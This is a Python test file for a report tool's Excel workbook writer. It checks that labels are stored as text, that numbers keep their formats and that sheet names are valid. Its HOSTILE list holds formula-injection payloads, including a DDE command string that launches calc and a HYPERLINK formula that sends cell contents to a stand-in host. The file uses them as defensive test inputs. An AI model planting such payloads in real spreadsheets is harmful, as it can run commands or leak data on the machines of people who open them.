"""The analyst workbook: numbers as numbers, every text as text (never a formula), sheets an analyst can find.

The workbook's XML is read directly (zipfile + ElementTree), not only through
openpyxl, so what Excel would see is what is tested.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.report.pages import Page, plain
from tests.report.test_bad_input import SMALL_TOML, small_csv
from trivselscore.cli.commands import main
from trivselscore.cohort import Cell
from trivselscore.report.tables import Grid
from trivselscore.report.values import Value
from trivselscore.report.xlsx import SHEET_LIMIT, sheet_names, write_xlsx

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
TEXT_TYPES = {"s", "inlineStr"}

# Labels a spreadsheet could take for a formula, an error value, a number or a control sequence.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "+45 1234",
    "-1",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "#DIV/0!",
    "TRUE",
    "1e5",
    "007",
    "12",
    "'=1",
    "_x000D_",
    "<b>&amp;</b>",
    "a\x07b",
]


def _sheets(path: Path) -> dict[str, ElementTree.Element]:
    """Every worksheet's XML root, by file name."""
    with zipfile.ZipFile(path) as archive:
        return {
            name: ElementTree.fromstring(  # noqa: S314 - our own file
                archive.read(name)
            )
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def _cells(root: ElementTree.Element) -> list[ElementTree.Element]:
    return list(root.iter(f"{MAIN}c"))


def _text_of(cell: ElementTree.Element) -> str:
    return "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))


def _assert_no_formula(path: Path) -> list[str]:
    """No <f> element in any sheet; every non-number cell is a string cell. Returns every text."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                assert b"<f>" not in archive.read(name), name
                assert b"<f " not in archive.read(name), name
    texts = []
    for name, root in _sheets(path).items():
        assert not list(root.iter(f"{MAIN}f")), name
        for cell in _cells(root):
            kind = cell.get("t", "n")
            assert kind in TEXT_TYPES | {"n"}, (name, cell.get("r"), kind)
            if kind in TEXT_TYPES:
                texts.append(_text_of(cell))
            else:
                float(cell.findtext(f"{MAIN}v") or "nan")
    return texts


def _expected_text(label: str) -> str:
    """What reads back: XML turns a carriage return into a line feed; XML-illegal characters are escaped."""
    text = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"\\x{ord(m.group()):02x}", label)
    return text.replace("\r", "\n")


def test_hostile_labels_are_text_everywhere(tmp_path):
    grids = [
        Grid(
            caption=label,
            head=[label, "n", "andel (%)"],
            cells=[[label, Value.count(7), Value("share", number=0.5, low=0.25, high=0.75, digits=0)]],
            notes=[label],
            sheet=label,
            sheet_tail=label,
        )
        for label in HOSTILE
    ]
    about = [(label, [Value.label(label), Value.count(3)]) for label in HOSTILE]
    path = tmp_path / "t.xlsx"
    write_xlsx(path, grids, title=HOSTILE[1], about=about)
    texts = _assert_no_formula(path)
    for label in HOSTILE:
        assert texts.count(_expected_text(label)) >= 5, label  # caption, head, cell, note, index, Om data
    book = openpyxl.load_workbook(path)
    assert len(book.sheetnames) == len(HOSTILE) + 2
    assert all(len(name) <= SHEET_LIMIT for name in book.sheetnames)
    for sheet in book.worksheets[2:]:
        assert sheet["B3"].value == 7
        assert sheet["C3"].value == 0.5
        assert sheet["C3"].number_format == "0%"
        assert (sheet["D3"].value, sheet["E3"].value) == (0.25, 0.75)


def test_hostile_labels_from_the_data_and_study_toml(tmp_path, capsys):
    """A track and a title that start with = or @ reach the workbook as text (the report's own path)."""
    data = small_csv(tmp_path / "d.csv")
    text = data.read_text(encoding="utf-8").replace(";a;", ";=1+1;").replace(";b;", ";@SUM(A1);")
    data.write_text(text, encoding="utf-8")
    study = tmp_path / "STUDY.toml"
    study.write_text(SMALL_TOML.replace('"Lille test"', '"=HYPERLINK(1)"'), encoding="utf-8")
    out = tmp_path / "r.xlsx"
    assert main(["report", str(data), "--study", str(study), "--xlsx", str(out), "--decimal", ","]) == 0
    capsys.readouterr()
    texts = _assert_no_formula(out)
    assert {"=1+1", "@SUM(A1)", "=HYPERLINK(1)"} <= set(texts)


def _html_number(text: str) -> tuple[float, float | None, float | None, bool] | None:
    """(value, low, high, percent) of a number the HTML shows: 12, 45.3 (41.0 to 49.6), 52% (45-60)."""
    found = re.fullmatch(r"(-?[\d.]+)(%)?(?: \((-?[\d.]+)(?:-| to )(-?[\d.]+)\))?", text)
    if found is None:
        return None
    value, percent, low, high = found.groups()
    return (
        float(value),
        None if low is None else float(low),
        None if high is None else float(high),
        percent is not None,
    )


def _close(number: float, shown: float | None, *, percent: bool, digits: int) -> bool:
    scale = 100 if percent else 1
    return shown is not None and bool(abs(number * scale - shown) <= 0.5 * 10**-digits + 1e-9)


def test_every_table_of_the_html_is_a_sheet_with_its_numbers(report_run):
    book = openpyxl.load_workbook(report_run.xlsx_path)
    page = Page(report_run.html)
    tables = [t for t in page.tables if not t.caption.startswith(("Grænser (", "Trykte antal"))]
    assert book.sheetnames[:2] == ["Indhold", "Om data"]
    sheets = book.worksheets[2:]
    assert len(sheets) == len(tables)
    for sheet, table in zip(sheets, tables, strict=True):
        rows = [list(r) for r in sheet.iter_rows()]
        assert rows[0][0].value == table.caption
        assert sheet.freeze_panes == "A3"
        head = [c.value for c in rows[1] if c.value is not None]
        assert [h for h in head if ": " not in h or h in table.head] == table.head
        for cells, html_row in zip(rows[2 : 2 + len(table.body)], table.body, strict=True):
            position = 0
            for text, column in zip(html_row, table.head, strict=True):
                cell = cells[position]
                wide = position + 1 < len(head) and head[position + 1].startswith(f"{column}: ")
                position += 3 if wide else 1
                number = _html_number(plain(text))
                if number is None:
                    assert (cell.value or "") == text, (sheet.title, html_row)
                    assert cell.data_type == "s" or cell.value is None
                    continue
                value, low, high, percent = number
                digits = 0 if percent else len(plain(text).split(" ")[0].partition(".")[2])
                assert isinstance(cell.value, int | float), (sheet.title, text)
                assert _close(cell.value, value, percent=percent, digits=digits), (
                    sheet.title,
                    text,
                    cell.value,
                )
                assert cell.number_format == (
                    "0%" if percent else "0" if digits == 0 else "0." + "0" * digits
                )
                if low is not None:
                    bounds = (cells[position - 2].value, cells[position - 1].value)
                    assert _close(bounds[0], low, percent=percent, digits=digits)
                    assert _close(bounds[1], high, percent=percent, digits=digits)
    _assert_no_formula(report_run.xlsx_path)


def test_hidden_cells_are_marks_never_zero(report_run):
    book = openpyxl.load_workbook(report_run.xlsx_path)
    marks = [
        c for s in book.worksheets[2:] for row in s.iter_rows() for c in row if c.value in {"<5", "skjult"}
    ]
    assert marks  # the synthetic export has small groups
    assert all(c.data_type == "s" for c in marks)


def test_index_and_om_data(report_run):
    book = openpyxl.load_workbook(report_run.xlsx_path)
    index, about = book["Indhold"], book["Om data"]
    assert index.freeze_panes == "A3"
    entries = list(index.iter_rows(min_row=3))
    assert [row[0].value for row in entries] == book.sheetnames[1:]
    for row in entries:
        link = row[0].hyperlink
        assert link is not None
        assert link.location == f"'{row[0].value}'!A1"
        sheet = book[row[0].value]
        if sheet.title != "Om data":
            assert row[1].value == sheet["A1"].value  # the table's full caption
    facts = {r[0].value: r[1].value for r in about.iter_rows(min_row=3) if r[0].value}
    assert facts["Datasæt"] == "Syntetisk eksport"
    assert facts["Personer"] == 150
    rows = facts["Rækker"]  # one release: a first-page total may be the range it lies in
    assert rows == 495 if isinstance(rows, int) else int(rows.split("-")[0]) <= 495 <= int(rows.split("-")[1])
    assert about["A1"].value == "Evaluering af Sammen på sporet"


def test_sheet_names_read_like_the_report(report_run):
    names = openpyxl.load_workbook(report_run.xlsx_path, read_only=True).sheetnames
    assert names[:5] == ["Indhold", "Om data", "who5 niveau", "who5 fremgang 1-3", "who5 fremgang 1-4"]
    assert "samlet fremgang 1-3" in names
    assert "sdq køn" in names


@given(st.lists(st.text(min_size=0, max_size=40), max_size=30))
def test_sheet_names_are_short_unique_and_allowed(wanted):
    names = sheet_names(wanted)
    assert len(names) == len(wanted)
    assert all(0 < len(n) <= SHEET_LIMIT for n in names)
    assert len({n.casefold() for n in names}) == len(names)
    assert not any(set(n) & set("[]:*?/\\") for n in names)
    assert not any(n.startswith("'") or n.endswith("'") for n in names)
    assert not any(ord(c) < 32 for n in names for c in n)


@given(
    st.lists(
        st.tuples(st.text(max_size=40), st.sampled_from(["niveau", "fremgang 1-2", "køn", "fremgang 10-12"])),
        min_size=1,
        max_size=20,
    )
)
def test_sheet_name_tails_are_kept_whole(wanted):
    for name, (_, tail) in zip(sheet_names(wanted), wanted, strict=True):
        assert tail in name
        assert len(name) <= SHEET_LIMIT


def test_sheet_names_examples():
    assert sheet_names([("sdq", "fremgang 1-2"), ("SDQ", "fremgang 1-2"), ("History", "")]) == [
        "sdq fremgang 1-2",
        "SDQ fremgang 1-2 (2)",
        "History-",
    ]
    assert sheet_names([("who5 percentage", "fremgang 1-2")]) == ["who5 percentage fremgang 1-2"]
    assert sheet_names([("x" * 40, "niveau")]) == ["x" * 24 + " niveau"]


cells = st.builds(
    Cell,
    value=st.one_of(st.none(), st.integers(0, 10_000), st.floats(-1e4, 1e4, allow_nan=False)),
    low=st.one_of(st.none(), st.floats(-1e4, 1e4, allow_nan=False)),
    high=st.one_of(st.none(), st.floats(-1e4, 1e4, allow_nan=False)),
    suppressed=st.booleans(),
    note=st.sampled_from([None, "<5", "n<5", "hidden", "n=0", "no norm table"]),
)


@given(cell=cells, digits=st.integers(0, 3), percent=st.booleans(), lang=st.sampled_from(["da", "en"]))
def test_a_value_renders_as_the_cell_text(cell, digits, percent, lang):
    """The HTML text of a typed cell is the report cell's own text (one number format, one place)."""
    value = Value.of(cell, lang, digits=digits, percent=percent)
    assert plain(value.render(lang), lang) == cell.text(digits=digits, percent=percent, language=lang)
    assert (value.number is None) == (cell.suppressed or cell.value is None)


def test_a_grid_of_plain_text_renders_as_given():
    grid = Grid("c", ["a", "b"], [["x", Value.count(3)]], [], "s")
    assert grid.body == [["x", "3"]]
    assert grid.rows[0][0] == Value.label("x")


@pytest.mark.parametrize("lang", ["da", "en"])
def test_english_workbook(tmp_path, capsys, lang):
    data = small_csv(tmp_path / "d.csv")
    study = tmp_path / "STUDY.toml"
    study.write_text(SMALL_TOML, encoding="utf-8")
    out = tmp_path / "r.xlsx"
    code = main(
        ["report", str(data), "--study", str(study), "--xlsx", str(out), "--decimal", ",", "--lang", lang]
    )
    assert code == 0, capsys.readouterr().err
    names = openpyxl.load_workbook(out, read_only=True).sheetnames
    expected = (
        ["Indhold", "Om data", "who5 niveau"]
        if lang == "da"
        else ["Contents", "About the data", "who5 level"]
    )
    assert names[:3] == expected


def test_an_empty_fact_and_short_rows(tmp_path):
    grid = Grid(
        "c", ["a", "b", "c"], [[Value.label("x")], ["", Value("share", number=0.5, digits=0)]], ["n"], "s"
    )
    path = tmp_path / "t.xlsx"
    write_xlsx(path, [grid], title="t", about=[("empty", []), ("after", [Value.label("v")])])
    book = openpyxl.load_workbook(path)
    about = [tuple(r) for r in book["Om data"].iter_rows(min_row=3, values_only=True)]
    assert about == [("empty", None), ("after", "v")]
    rows = [tuple(r) for r in book.worksheets[2].iter_rows(min_row=3, max_row=4, values_only=True)]
    assert rows == [("x", None, None), (None, 0.5, None)]
    assert Value.label("x").excel_format == "@"
